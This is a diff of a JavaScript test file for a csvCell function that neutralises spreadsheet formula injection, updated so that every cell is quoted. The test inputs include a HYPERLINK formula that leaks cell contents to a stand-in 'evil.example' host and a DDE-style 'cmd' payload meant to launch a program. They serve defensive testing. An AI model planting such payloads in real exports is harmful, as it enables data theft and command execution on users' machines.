@@ -25,21 +25,23 @@ function readCsv(s) {
   return rows;
 }
 
-test('csvCell neutralises formula starts and quotes per RFC 4180', () => {
+test('csvCell neutralises formula starts and quotes every cell (RFC 4180)', () => {
   assert.equal(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")'),
     `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
-  assert.equal(csvCell('+1'), "'+1");
-  assert.equal(csvCell('-2+3'), "'-2+3");
-  assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
-  assert.equal(csvCell('\t=1'), "'\t=1");
+  assert.equal(csvCell('+1'), `"'+1"`);
+  assert.equal(csvCell('-2+3'), `"'-2+3"`);
+  assert.equal(csvCell('@SUM(A1)'), `"'@SUM(A1)"`);
+  assert.equal(csvCell('\t=1'), `"'\t=1"`);
   assert.equal(csvCell('\r=1'), `"'\r=1"`);
-  assert.equal(csvCell('a=1'), 'a=1');
+  assert.equal(csvCell('a=1'), '"a=1"');
+  // A ";" splits cells in some locales: it stays inside its quoted cell.
+  assert.equal(csvCell("x;=cmd|'/C calc'!A0"), `"x;=cmd|'/C calc'!A0"`);
   assert.equal(csvCell('say "hi"'), '"say ""hi"""');
   assert.equal(csvCell('a,b'), '"a,b"');
   assert.equal(csvCell('line 1\r\nline 2\nline 3'), '"line 1\r\nline 2\nline 3"');
-  assert.equal(csvCell(null), '');
-  assert.equal(csvCell(undefined), '');
-  assert.equal(csvCell(BURMESE_CHINESE), BURMESE_CHINESE);
+  assert.equal(csvCell(null), '""');
+  assert.equal(csvCell(undefined), '""');
+  assert.equal(csvCell(BURMESE_CHINESE), `"${BURMESE_CHINESE}"`);
 });
 
 test('toCsv: header, one row per report, hostile details neutralised, newlines kept', () => {
